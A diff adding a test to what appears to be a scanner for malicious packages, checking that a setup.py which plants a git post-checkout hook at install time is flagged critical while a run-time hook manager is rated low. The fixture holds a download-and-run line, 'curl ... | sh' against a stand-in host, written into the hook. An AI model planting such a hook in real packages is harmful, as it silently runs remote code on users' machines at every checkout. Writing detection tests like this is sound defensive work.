@@ -284,3 +284,23 @@ def test_replacing_a_desktop_apps_own_code_is_injection() -> None:
     assert "injection" in found[0].message
     # naming an Electron archive in a comment is no write
     assert run(R, py("# the app ships resources/app.asar\nVERSION = 1\n", stage=Stage.RUNTIME)) == []
+
+
+def test_a_git_hook_planted_at_install_versus_a_hook_manager_at_run_time() -> None:
+    """A hook in the user's repository runs at every checkout; written by setup.py with a
+    download-and-run line it is a dropper that waits. A hook manager writes hooks on request."""
+    planted = py(
+        "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
+        "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s https://h.example/x | sh\\n')\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = run(R, planted)
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert "git hook" in found[0].message
+    manager = py(
+        "import os\ndef install(repo, script):\n"
+        "    with open(os.path.join(repo, '.git/hooks/pre-commit'), 'w') as f:\n        f.write(script)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert [f.severity for f in run(R, manager)] == [Severity.LOW]
